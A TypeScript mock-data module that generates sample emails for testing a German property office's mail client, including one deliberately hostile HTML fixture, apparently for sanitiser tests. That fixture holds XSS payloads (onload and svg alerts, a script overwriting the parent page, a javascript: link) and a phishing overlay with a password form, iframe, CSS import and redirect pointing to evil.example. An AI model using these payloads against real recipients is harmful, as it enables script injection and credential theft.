/** What the made-up emails say: a few dozen shapes, from a plain note to a hostile newsletter. */
import { randomOf } from "./mock-jmap-world";

interface Part {
  partId: string | null; blobId: string | null; size: number; name: string | null; type: string;
  disposition: string | null; cid: string | null;
}

export interface Letter {
  from: { name: string; email: string }[]; to: { name: string; email: string }[]; subject: string; preview: string;
  size: number; hasAttachment: boolean; sender: null; cc: { name: string; email: string }[] | null; bcc: null;
  replyTo: null; bodyValues: Record<string, { value: string; isEncodingProblem: boolean; isTruncated: boolean }>;
  textBody: Part[]; htmlBody: Part[]; attachments: Part[];
  "poststelle:categories": string[]; "poststelle:importance": string; "poststelle:dueAt": null;
}

const PEOPLE = [
  ["Anna Berger", "anna.berger@kanzlei-nord.example"], ["Thomas Möller", "t.moeller@example.org"],
  ["ImmoPortal", "anfragen@immoportal.example"], ["Dr. Sabine Krüger-Lüdenscheid", "praxis@krueger.example"],
  ["Notariat Hellmann & Partner", "post@notariat-hellmann.example"], ["", "hausmeister@parkstrasse.example"],
  ["Olivia O’Brien", "olivia@brien.example"], ["יעל כהן", "yael@cohen.example"], ["Stadtwerke", "service@stadtwerke.example"],
] as const;

const SUBJECTS = [
  "Besichtigung Lindenallee 3", "Anfrage zu Objekt 4711: 3-Zimmer-Wohnung mit Balkon", "AW: Kaufvertragsentwurf",
  "Ihre Rechnung März", "Newsletter: Der Markt im Frühling", "", "Terminbestätigung Donnerstag 14 Uhr",
  "Re: Floor plan and energy certificate", "Schlüsselübergabe 🔑", "הצעה לדירה",
  "Sehr langer Betreff, der in keiner Zeile Platz hat und trotzdem vollständig zu lesen sein muss, weil darin steht, worum es geht",
] as const;

const pick = <T,>(list: readonly T[], random: () => number): T => list[Math.floor(random() * list.length)] as T;

const TEXT = `Guten Tag Frau Lindner,

können wir am Donnerstag um 14 Uhr die Wohnung in der Lindenallee 3 ansehen? Mein Mann käme mit;
wir bräuchten etwa eine halbe Stunde. Den Grundriss haben wir unter https://immoportal.example/objekt/4711?von=mail gesehen.

Ist die Küche im Preis enthalten?

Mit freundlichen Grüßen
Anna Berger

Am 12. März 2026 um 09:10 schrieb Büro Lindner:
> Guten Tag Frau Berger,
>
> vielen Dank für Ihre Anfrage. Gern zeigen wir Ihnen die Wohnung.
> Passt Ihnen der Donnerstag?
>
>> Ist die Wohnung noch frei?
`;

const NEWSLETTER = `<html><head><style>body{background:#eee} .hero{background:url(https://track.example/bg.png)}</style></head>
<body><table width="900" align="center" cellpadding="0" style="background:#fff;font-family:Arial"><tr><td class="hero" style="padding:24px">
<img src="https://track.example/logo.png" width="200" height="40" alt="ImmoPortal"><h1 style="color:#0a5">Der Markt im Frühling</h1>
<p>Die Preise für Eigentumswohnungen sind im ersten Quartal um <b>1,8 %</b> gestiegen.</p>
<table border="1" cellpadding="6" style="border-collapse:collapse;width:100%"><tr><th>Stadt</th><th>Miete</th><th>Kauf</th></tr>
<tr><td>Hamburg</td><td>14,20 €</td><td>5.900 €</td></tr><tr><td>Leipzig</td><td>9,10 €</td><td>2.900 €</td></tr></table>
<p><a href="https://click.example/x?u=1" style="background:#0a5;color:#fff;padding:10px 18px">Zum Bericht</a></p>
<img src="https://track.example/pixel.gif?id=4711" width="1" height="1"></td></tr></table></body></html>`;

const INLINE = `<div style="font-family:Calibri,sans-serif;font-size:11pt"><p>Hallo zusammen,</p><p>anbei das Bild vom Balkon:</p>
<p><img src="cid:balkon@local" width="320" height="200" alt="Balkon"></p><p>Viele Grüße<br>Thomas Möller</p>
<blockquote style="border-left:2px solid #ccc;margin:0;padding-left:8px">Können Sie uns ein Foto schicken?</blockquote></div>`;

const HOSTILE = `<html><body onload="alert(1)"><script>parent.document.body.innerHTML='owned'</script>
<style>@import url(https://evil.example/x.css); * { position: fixed }</style>
<div style="position:fixed;inset:0;background:red;z-index:99999">Sie wurden abgemeldet. <a href="https://evil.example/login">Anmelden</a></div>
<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"><button>Weiter</button></form>
<a href="javascript:alert(2)">klick</a><svg onload="alert(3)"><image href="https://evil.example/p.png"/></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<p>Ein ganz normaler Satz steht auch darin.</p></body></html>`;

const RTL = `<div dir="rtl"><p>שלום, אני מעוניינת בדירה ברחוב Lindenallee 3.</p><p>תודה, יעל</p></div>`;

const part = (type: string, partId: string | null, more: Partial<Part> = {}): Part =>
  ({ partId, blobId: null, size: 1_200, name: null, type, disposition: null, cid: null, ...more });

const file = (name: string, type: string, size: number): Part => part(type, null, { name, size, disposition: "attachment" });

const SHAPES: { html: string | null; attachments: Part[] }[] = [
  { html: null, attachments: [] },
  { html: NEWSLETTER, attachments: [] },
  { html: INLINE, attachments: [part("image/png", null, { name: "balkon.png", cid: "balkon@local", disposition: "inline", size: 48_213 })] },
  { html: null, attachments: [file("Expose.pdf", "application/pdf", 1_243_210), file("Grundriss.png", "image/png", 312_000)] },
  { html: HOSTILE, attachments: [] },
  { html: RTL, attachments: [file("Protokoll der Eigentümerversammlung 2026 – endgültige Fassung mit allen Anlagen.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", 88_000)] },
  { html: null, attachments: [file("Weitergeleitete Nachricht.eml", "message/rfc822", 20_480), file("notiz.txt", "text/plain", 420)] },
];

const cache = new Map<number, Letter>();

/** The letter with a number; the same number always says the same. */
export function letterOf(number: number): Letter {
  const known = cache.get(number);
  if (known) return known;
  const random = randomOf(number * 31 + 5);
  const [name, email] = number === 4 ? PEOPLE[2] : pick(PEOPLE, random);
  const shape = (number < SHAPES.length ? SHAPES[number] : pick(SHAPES, random)) ?? { html: null, attachments: [] };
  const subject = number === 0 ? "Besichtigung Lindenallee 3" : pick(SUBJECTS, random);
  const body = part(shape.html ? "text/html" : "text/plain", "1");
  const letter: Letter = {
    from: [{ name, email }], to: [{ name: "Büro Lindner", email: "info@buero-lindner.de" }], subject,
    preview: shape.html ? "Die Preise für Eigentumswohnungen sind im ersten Quartal gestiegen. Was das für Sie heißt …" : TEXT.slice(0, 180).replace(/\s+/g, " "),
    size: 4_000 + Math.floor(random() * 90_000), hasAttachment: shape.attachments.some((each) => each.disposition === "attachment"),
    sender: null, bcc: null, replyTo: null,
    cc: number % 4 === 0 ? [{ name: "Vermietung", email: "vermietung@buero-lindner.de" }, { name: "", email: "ablage@buero-lindner.de" }] : null,
    bodyValues: { "1": { value: shape.html ?? TEXT, isEncodingProblem: false, isTruncated: false } },
    textBody: [body], htmlBody: [body], attachments: shape.attachments,
    "poststelle:categories": number % 7 === 3 ? ["Rote Kategorie", "Besichtigung"] : number % 11 === 1 ? ["Kunde"] : [],
    "poststelle:importance": number % 9 === 4 ? "high" : number % 13 === 6 ? "low" : "normal", "poststelle:dueAt": null,
  };
  if (cache.size < 5_000) cache.set(number, letter);
  return letter;
}
